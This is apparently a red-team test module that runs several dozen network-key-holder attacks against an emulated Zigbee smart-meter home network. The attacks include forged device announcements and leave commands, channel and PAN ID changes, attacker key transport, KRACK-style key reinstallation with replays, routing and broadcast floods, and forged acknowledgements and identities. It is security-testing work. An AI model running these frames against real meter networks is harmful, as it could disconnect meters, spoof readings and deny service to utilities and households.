"""Attacks by a holder of the network key, which every device of a HAN holds: it proves no sender (R22, 4.3)."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterable

from hanbench.emulator.mac.frames import MacCommand
from hanbench.emulator.zigbee.aps import commands as aps_commands
from hanbench.emulator.zigbee.aps import frames as aps
from hanbench.emulator.zigbee.binding import Binding
from hanbench.emulator.zigbee.nwk import commands, frames
from hanbench.emulator.zigbee.zdo import messages as zdp
from tests.redteam.answers import Answers
from tests.redteam.attacker import BROADCAST, OWN_SHORT, Attacker, Place
from tests.redteam.attacks import FLOOD, attack
from tests.redteam.without_keys import RX_ON_ROUTER

UPDATE_STATUS = (0, 1, 2, 3)
ASLEEP = 60
"""Seconds after which a gas meter that was awake sleeps again."""
BASIC, KEY_ESTABLISHMENT = 0x0000, 0x0800


def annce(a: Attacker, ieee: int, short: int, *, src: int | None = None) -> bytes:
    """A Device_annce from the address that it claims, or from `src`."""
    source = short if src is None else src
    lie = zdp.encode(a.next(), zdp.DeviceAnnce(short, ieee, 0x8E))
    apdu = a.apdu(lie, zdp.DeviceAnnce.CLUSTER, profile=0, endpoint=0, delivery=aps.BROADCAST)
    return a.data(a.npdu(apdu, src=source, dst=0xFFFD, ieee=ieee), dst=BROADCAST)


def nwk_command(
    a: Attacker, command: commands.NwkCommand, *, src: Place, dst: int, over: int | None = None, **more: int
) -> bytes:
    """A secured NWK command in the name of `src`; `over`: the MAC destination."""
    npdu = a.npdu(command.encode(), src=src.short, dst=dst, kind=frames.COMMAND, ieee=src.ieee, **more)  # type: ignore[arg-type]
    return a.data(npdu, dst=dst if over is None else over, src=src.short)


def aps_command(a: Attacker, command: aps_commands.ApsCommand, *, src: int, dst: int) -> bytes:
    """An APS command without APS security."""
    npdu = a.npdu(aps.command_header(a.next()) + command.encode(), src=src, dst=dst)
    return a.data(npdu, dst=BROADCAST if dst >= 0xFFF8 else dst, src=src)


def request(a: Attacker, message: zdp.ZdpMessage, dst: int) -> bytes:
    """A request of the device profile."""
    apdu = a.apdu(zdp.encode(a.next(), message), message.CLUSTER, profile=0, endpoint=0)
    return a.data(a.npdu(apdu, src=OWN_SHORT, dst=dst), dst=dst)


async def again(a: Attacker, lies: Callable[[], Iterable[bytes]], seconds: float = 30) -> None:
    await a.every(seconds, lies)


async def while_awake(a: Attacker, lies: Callable[[], Iterable[bytes]]) -> None:
    """Send to the gas meter when it has polled: then its receiver is on."""
    poll = bytes((MacCommand.DATA_REQUEST,))

    def heard(psdu: bytes) -> None:
        if psdu[0] & 7 == 3 and psdu[-3:-2] == poll and psdu[7:9] == a.gsme.short.to_bytes(2, "little"):
            a.later(a.flood(lies(), pause=0))

    a.ears.append(heard)
    await asyncio.Event().wait()


async def at_wakes(a: Attacker, lies: Callable[[], Iterable[bytes]]) -> None:
    """Send at once, and then as soon as the gas meter is heard after a while."""
    asleep = asyncio.Event()
    asleep.set()

    def heard(psdu: bytes) -> None:
        if asleep.is_set() and psdu[7:9] == a.gsme.short.to_bytes(2, "little"):
            asleep.clear()
            a.later(a.flood(lies(), pause=0))

    a.ears.append(heard)
    await a.flood(lies(), pause=0)
    while True:
        await asyncio.sleep(ASLEEP)
        asleep.set()


# --- addresses --------------------------------------------------------------------------------------------------------


@attack
async def device_annce_of_a_broadcast_address(a: Attacker) -> None:
    await again(a, lambda: [annce(a, a.gsme.ieee, 0xFFFF, src=OWN_SHORT), annce(a, a.esme.ieee, 0xFFFC, src=OWN_SHORT)])


@attack
async def device_annce_of_the_hubs_address(a: Attacker) -> None:
    await again(a, lambda: [annce(a, a.gsme.ieee, 0x0000, src=OWN_SHORT), annce(a, a.gsme.ieee, 0x0000)])


@attack
async def device_annce_of_anothers_address(a: Attacker) -> None:
    await again(a, lambda: [annce(a, a.gsme.ieee, a.esme.short), annce(a, a.esme.ieee, a.gsme.short)])


@attack
async def device_annce_of_a_free_address(a: Attacker) -> None:
    await again(a, lambda: [annce(a, a.gsme.ieee, 0x4242), annce(a, a.esme.ieee, 0x4343)])


@attack
async def device_annce_of_the_meters_address(a: Attacker) -> None:
    """A device of the attacker's announces the gas meter's address as its own: an address conflict (R22, 3.6.1.9)."""
    await again(a, lambda: [annce(a, a.foreign_ieee(), a.gsme.short), annce(a, a.foreign_ieee(), a.esme.short)])


@attack
async def device_annce_flood(a: Attacker) -> None:
    await a.flood(annce(a, a.foreign_ieee(), a.foreign_short()) for _ in range(FLOOD))


@attack
async def update_device_of_wrong_addresses(a: Attacker) -> None:
    """A router's word about the meters: broadcast, the hub's, each other's and a free address."""

    def lies() -> list[bytes]:
        shorts = (0xFFFF, 0x0000, a.esme.short, 0x4242)
        return [
            aps_command(a, aps_commands.UpdateDevice(ieee, short, status), src=OWN_SHORT, dst=0)
            for ieee in (a.gsme.ieee, a.esme.ieee)
            for short in shorts
            for status in UPDATE_STATUS
        ]

    await again(a, lies, 60)


@attack
async def network_address_conflict(a: Attacker) -> None:
    """Network Status "address conflict" about every device (R22, 3.4.3.3)."""
    await again(
        a,
        lambda: [
            nwk_command(a, commands.NetworkStatus(0x0D, each.short), src=a.hub, dst=BROADCAST, sequence=a.next())
            for each in (a.gsme, a.esme, a.hub)
        ],
    )


# --- leaving, moving, rejoining ---------------------------------------------------------------------------------------


@attack
async def leave_in_the_hubs_name(a: Attacker) -> None:
    """In that of the meter's parent: the hub, or the repeater."""
    leave = commands.Leave(request=True)
    await while_awake(a, lambda: [nwk_command(a, leave, src=a.parent, dst=a.gsme.short, sender=a.parent.ieee)])


@attack
async def leave_in_the_meters_name(a: Attacker) -> None:
    """The meter's own farewell to its parent."""
    await again(a, lambda: [nwk_command(a, commands.Leave(), src=a.gsme, dst=a.parent.short)], 60)


@attack
async def mgmt_leave(a: Attacker) -> None:
    """The hub is asked to have its meters leave (R22, 2.4.3.3.5)."""
    await again(a, lambda: [request(a, zdp.MgmtLeaveReq(each.ieee, 0), 0) for each in (a.gsme, a.esme)])


@attack
async def mgmt_leave_to_the_esme(a: Attacker) -> None:
    await again(a, lambda: [request(a, zdp.MgmtLeaveReq(a.esme.ieee, 0), a.esme.short)])


@attack
async def mgmt_channel_change(a: Attacker) -> None:
    """The hub is asked to change to another channel (R22, 2.4.3.3.9)."""
    await again(a, lambda: [request(a, zdp.MgmtNwkUpdateReq(1 << 26, zdp.CHANGE_CHANNEL, update_id=9), 0)])


@attack
async def mgmt_permit_joining(a: Attacker) -> None:
    await again(a, lambda: [request(a, zdp.MgmtPermitJoiningReq(254), 0)])


@attack
async def network_update(a: Attacker) -> None:
    """The HAN is told to move to another PAN ID, in the hub's name (R22, 3.4.11)."""
    update = commands.NetworkUpdate(extended_pan_id=a.extended_pan_id, update_id=40, pan_id=0x0666)
    await again(a, lambda: [nwk_command(a, update, src=a.hub, dst=BROADCAST, sender=a.hub.ieee)], 300)


@attack
async def network_report(a: Attacker) -> None:
    """Reports of PAN ID conflicts that do not exist (R22, 3.4.10)."""

    def lies() -> list[bytes]:
        pan_id = a.pan_id = a.han.hub.stack.nwk.network.pan_id
        report = commands.NetworkReport(extended_pan_id=a.extended_pan_id, pan_ids=(pan_id,))
        return [nwk_command(a, report, src=a.esme, dst=0)]

    await again(a, lies, 60)


@attack
async def secured_rejoin_in_the_meters_name(a: Attacker) -> None:
    """With another receiver setting, so that the hub no longer waits for the sleeper's polls."""
    lie = commands.RejoinRequest(capability=RX_ON_ROUTER)
    to = a.parent.short
    await again(a, lambda: [nwk_command(a, lie, src=a.gsme, dst=to), nwk_command(a, lie, src=a.esme, dst=0)], 60)


@attack
async def secured_rejoin_under_the_meters_counter(a: Attacker) -> None:
    lie = commands.RejoinRequest(capability=RX_ON_ROUTER)
    sender = a.gsme.ieee
    await nwk_sent_once(a, lambda: nwk_command(a, lie, src=a.gsme, dst=a.parent.short, sender=sender))


async def nwk_sent_once(a: Attacker, lie: Callable[[], bytes]) -> None:
    await asyncio.sleep(2)
    await a.send(lie(), retries=3)


@attack
async def short_end_device_timeout(a: Attacker) -> None:
    """The meter's timeout becomes 10 s, so that its parent forgets it while it sleeps (R22, 3.4.11 and 3.6.10)."""
    lie = commands.EndDeviceTimeoutRequest(timeout=0)
    await again(a, lambda: [nwk_command(a, lie, src=a.gsme, dst=a.parent.short)], 60)


@attack
async def a_relay_for_the_sleeper(a: Attacker) -> None:
    """A frame of the meter's over a relay: its parent takes it for another one's child now."""
    await again(
        a, lambda: [a.data(a.npdu(a.apdu(b"\x18\x01\x0b\x00\x00", BASIC), src=a.gsme.short), src=OWN_SHORT)], 60
    )


# --- keys and counters ------------------------------------------------------------------------------------------------


@attack
async def network_key_of_the_attackers(a: Attacker) -> None:
    """Transport-Key and Switch-Key in the hub's name (R22, 4.4.3 and 4.4.7): the key is the attacker's own."""

    def lies() -> list[bytes]:
        key = aps_commands.TransportNetworkKey(b"attacker's key  ", 1, 0, a.hub.ieee)
        return [
            aps_command(a, key, src=0, dst=0xFFFD),
            aps_command(a, aps_commands.SwitchKey(1), src=0, dst=0xFFFD),
        ]

    await again(a, lies, 300)


@attack
async def switch_key(a: Attacker) -> None:
    """Switch-Key to numbers of keys that no device has, and to the present one (KRACK: reinstallation)."""

    def lies() -> list[bytes]:
        now = a.network_key()[1]
        keys = (now, now + 1 & 0xFF, now - 1 & 0xFF)
        return [aps_command(a, aps_commands.SwitchKey(each), src=0, dst=0xFFFD) for each in keys]

    await again(a, lies)


@attack
async def reinstallation_of_the_network_key(a: Attacker) -> None:
    """The present key again, as if it were new, so that counters begin at 0 (KRACK, 2017), then replays."""
    key, number = a.network_key()

    def lies() -> list[bytes]:
        command = aps_commands.TransportNetworkKey(key, number, 0, a.hub.ieee)
        return [
            aps_command(a, command, src=0, dst=0xFFFD),
            aps_command(a, aps_commands.SwitchKey(number), src=0, dst=0xFFFD),
        ]

    await again(a, lambda: [*lies(), *a.recorded[-60:]], 60)


@attack
async def counter_pushed_to_the_end(a: Attacker) -> None:
    """One frame in the gas meter's name with the highest frame counter: its own are replays then (R22, 4.3.1.2)."""
    npdu = a.npdu(a.apdu(b"\x18\x01\x0b\x00\x00", BASIC), src=a.gsme.short, sender=a.gsme.ieee, counter=0xFFFF_FFFE)
    await a.send(a.data(npdu, src=a.gsme.short), retries=3)


@attack
async def remove_device(a: Attacker) -> None:
    await again(a, lambda: [aps_command(a, aps_commands.RemoveDevice(a.gsme.ieee), src=OWN_SHORT, dst=0)])


@attack
async def sender_counters_flood(a: Attacker) -> None:
    """Frames of ever new senders in the auxiliary header: each has an incoming counter (R22, 4.3.1.2)."""
    await a.flood(
        a.data(a.npdu(a.apdu(b"\x18\x01\x0b\x00\x00", BASIC), src=short, sender=a.foreign_ieee()), src=short)
        for short in (a.foreign_short() for _ in range(FLOOD))
    )


# --- routes -----------------------------------------------------------------------------------------------------------


@attack
async def route_records(a: Attacker) -> None:
    """Source routes to the meters over a relay that does not exist (R22, 3.4.5)."""

    def lies() -> list[bytes]:
        found = []
        for each in (a.gsme, a.esme):
            npdu = a.npdu(
                commands.RouteRecord((OWN_SHORT,)).encode(), src=each.short, kind=frames.COMMAND, ieee=each.ieee
            )
            found.append(a.data(npdu, src=OWN_SHORT))
        return found

    await again(a, lies)


@attack
async def route_request_flood(a: Attacker) -> None:
    def lie() -> bytes:
        ask = commands.RouteRequest(a.next(), a.foreign_short())
        return nwk_command(a, ask, src=Place(a.foreign_short(), a.foreign_ieee()), dst=0xFFFC, over=BROADCAST)

    await a.flood(lie() for _ in range(FLOOD))


@attack
async def route_record_flood(a: Attacker) -> None:
    def lie() -> bytes:
        """A record over the electricity meter, in whose name the frame comes: over a stranger none is believed."""
        npdu = a.npdu(commands.RouteRecord((a.esme.short,)).encode(), src=a.foreign_short(), kind=frames.COMMAND)
        return a.data(npdu, src=a.esme.short)

    await a.flood(lie() for _ in range(FLOOD))


@attack
async def network_status(a: Attacker) -> None:
    """No route to the meters, says a relay (R22, 3.4.3)."""
    await again(
        a,
        lambda: [
            nwk_command(a, commands.NetworkStatus(status, each.short), src=Place(OWN_SHORT, a.foreign_ieee()), dst=0)
            for status in (0x00, 0x02, 0x0B)
            for each in (a.gsme, a.esme)
        ],
    )


@attack
async def link_status_flood(a: Attacker) -> None:
    """Routers that do not exist, each a neighbour."""

    def lie() -> bytes:
        place = Place(a.foreign_short(), a.foreign_ieee())
        status = commands.LinkStatus(entries=(commands.LinkStatusEntry(0, 1, 1),))
        return nwk_command(a, status, src=place, dst=0xFFFC, over=BROADCAST, sender=place.ieee)

    await a.flood(lie() for _ in range(FLOOD))


@attack
async def source_routed_frames(a: Attacker) -> None:
    """To the hub by relays that do not exist, and to others through it (R22, 3.6.3.3.2)."""
    await again(
        a,
        lambda: [
            a.data(
                a.npdu(a.apdu(b"\x18\x01\x0b\x00\x00", BASIC), src=a.gsme.short, dst=dst, relays=relays, relay_index=at)
            )
            for dst, relays, at in (
                (0, (OWN_SHORT,), 0),
                (a.esme.short, (0,), 0),
                (a.esme.short, (0, OWN_SHORT), 255),
                (a.gsme.short, tuple(range(1, 13)), 11),
            )
        ],
    )


@attack
async def broadcast_storm(a: Attacker) -> None:
    """Broadcasts that every router repeats (R22, 3.6.5)."""

    def lie() -> bytes:
        apdu = a.apdu(b"\x18\x01\x0b\x00\x00", BASIC, delivery=aps.BROADCAST)
        return a.data(a.npdu(apdu, src=a.foreign_short(), dst=BROADCAST), dst=BROADCAST)

    await a.flood(lie() for _ in range(FLOOD))


# --- the APS and above ------------------------------------------------------------------------------------------------


@attack
async def fragments_without_end(a: Attacker) -> None:
    """First blocks of messages whose rest never comes (R22, 2.2.8.4.5)."""

    def lie() -> bytes:
        first = aps.Fragment(True, 255)
        return a.data(a.npdu(a.apdu(bytes(50), BASIC, ack=True, fragment=first), src=a.foreign_short()))

    await a.flood(lie() for _ in range(FLOOD))


@attack
async def unacknowledged_reads(a: Attacker) -> None:
    """Reads in the sleeping meter's name, whose answers wait for acknowledgement."""
    await a.flood(
        a.data(
            a.npdu(
                a.apdu(b"\x00" + bytes((i & 0xFF,)) + b"\x00\x04\x00" + i.to_bytes(2, "little"), BASIC, ack=True),
                src=a.gsme.short,
            )
        )
        for i in range(FLOOD)
    )


@attack
async def reads_of_strangers(a: Attacker) -> None:
    """Reads of devices that do not exist, so that answers to ever new addresses wait."""
    await a.flood(
        a.data(a.npdu(a.apdu(b"\x00\x01\x00\x04\x00", BASIC, ack=True), src=short), src=short)
        for short in (a.foreign_short() for _ in range(FLOOD))
    )


@attack
async def forged_aps_acknowledgements(a: Attacker) -> None:
    """The meter's acknowledgements of all that the hub sends it (R22, 2.2.5.2.3), without the link key."""
    answers = Answers(a, a.han.gsme)
    a.ears.append(answers.acknowledge)
    a.be(a.gsme.short)
    await asyncio.Event().wait()


@attack
async def forged_refusals(a: Attacker) -> None:
    """An unsecured Default Response to each read of the register (ZCL r8, 2.5.12)."""
    answers = Answers(a, a.han.gsme)
    a.ears.append(answers.refuse)
    await asyncio.Event().wait()


@attack
async def forged_refusals_of_the_esme(a: Attacker) -> None:
    answers = Answers(a, a.han.esme)
    a.ears.append(answers.refuse)
    await asyncio.Event().wait()


@attack
async def forged_identity(a: Attacker) -> None:
    """Another maker and model in the meter's name: the cluster Basic is open to each holder of the network key."""
    answers = Answers(a, a.han.gsme, maker=b"Nobody", model=b"Nothing")
    a.ears.append(answers.answer)
    await asyncio.Event().wait()


@attack
async def forged_identity_of_the_esme(a: Attacker) -> None:
    answers = Answers(a, a.han.esme, maker=b"Nobody", model=b"Nothing")
    a.ears.append(answers.answer)
    await asyncio.Event().wait()


@attack
async def answers_under_the_network_key(a: Attacker) -> None:
    """The meter's true identity, and a register without link key."""
    answers = Answers(a, a.han.gsme)
    a.be(a.gsme.short)
    a.ears.append(answers.answer)
    await again(a, lambda: [a.command(bytes((MacCommand.DATA_REQUEST,)), src=a.gsme.short)], 20)


@attack
async def answers_sealed_again(a: Attacker) -> None:
    """The meter's answers to an earlier check, sealed again under the network key with new NWK counters."""
    before = [frame for psdu in a.recorded if (frame := a.opened(psdu)) is not None and frame.src == a.gsme.short]
    kept = [frame.payload for frame in before if frame.type == frames.DATA]
    assert kept, "the earlier check was not heard"
    await again(a, lambda: [a.data(a.npdu(apdu, src=a.gsme.short), src=a.gsme.short) for apdu in kept[-20:]], seconds=5)


@attack
async def reflected_requests(a: Attacker) -> None:
    """The hub's own secured reads, sent back in the meter's name: a link key is the same in both directions."""

    def reflect(psdu: bytes) -> None:
        frame = a.opened(psdu)
        if frame is not None and frame.src == 0 and frame.dst == a.gsme.short and frame.type == frames.DATA:
            a.later(a.flood([a.data(a.npdu(frame.payload, src=a.gsme.short), src=OWN_SHORT)]))

    a.ears.append(reflect)
    a.be(a.gsme.short)
    await again(a, lambda: [a.command(bytes((MacCommand.DATA_REQUEST,)), src=a.gsme.short)], 20)


@attack
async def binding_flood(a: Attacker) -> None:
    def lie() -> bytes:
        binding = Binding(a.hub.ieee, 1, 0x0702, destination=a.foreign_ieee(), destination_endpoint=1)
        return request(a, zdp.BindReq(binding), 0)

    await a.flood(lie() for _ in range(FLOOD))


@attack
async def mirror_theft(a: Attacker) -> None:
    """RequestMirror, RemoveMirror and a report in the meter's name, without link key (SE 1.4a, D.3)."""

    def lies() -> list[bytes]:
        zcl = (b"\x09\x01\x01", b"\x09\x02\x02", b"\x18\x03\x0a\x00\x00\x25" + bytes(6))
        return [a.data(a.npdu(a.apdu(each, 0x0702), src=a.gsme.short), src=a.gsme.short) for each in zcl]

    await again(a, lies)


@attack
async def key_establishment_in_the_meters_name(a: Attacker) -> None:
    """Initiate with the meters' own certificates, and no more: the hub's sessions are occupied (SE 1.4a, C.3.1)."""

    def lies() -> list[bytes]:
        found = []
        for device, place in ((a.han.gsme, a.gsme), (a.han.esme, a.esme)):
            assert device.identity is not None
            zcl = b"\x01" + bytes((a.next(),)) + b"\x00\x01\x00\xff\xff" + device.identity.certificate.octets
            found.append(a.data(a.npdu(a.apdu(zcl, KEY_ESTABLISHMENT), src=place.short), src=place.short))
        return found

    await again(a, lies, 20)


@attack
async def key_establishment_flood(a: Attacker) -> None:
    def lie() -> bytes:
        zcl = b"\x01" + bytes((a.next(),)) + b"\x00\x01\x00\x01\x01" + a.random.randbytes(48)
        short = a.foreign_short()
        return a.data(a.npdu(a.apdu(zcl, KEY_ESTABLISHMENT), src=short), src=short)

    await a.flood(lie() for _ in range(FLOOD // 2))


@attack
async def terminate_key_establishment(a: Attacker) -> None:
    """Terminate with UNKNOWN_ISSUER to both meters, which then would leave (SE 1.4a, C.4.2.3)."""

    def lies() -> list[bytes]:
        zcl = b"\x09" + bytes((a.next(),)) + b"\x03\x01\x00\x01\x00"
        return [
            a.data(a.npdu(a.apdu(zcl, KEY_ESTABLISHMENT), src=0, dst=each.short), dst=each.short, src=0)
            for each in (a.esme, a.gsme)
        ]

    await asyncio.gather(again(a, lies), while_awake(a, lies))


@attack
async def frames_under_a_stale_key(a: Attacker) -> None:
    """Data whose link key does not fit, so that the meters agree another one (SE 1.4a, 5.4.6)."""

    def lies() -> list[bytes]:
        apdu = a.apdu(b"\x00\x01\x00\x00\x00", 0x0702, link=(bytes(16), a.hub.ieee))
        return [a.data(a.npdu(apdu, src=0, dst=each.short), dst=each.short, src=0) for each in (a.esme, a.gsme)]

    await asyncio.gather(again(a, lies), while_awake(a, lies))
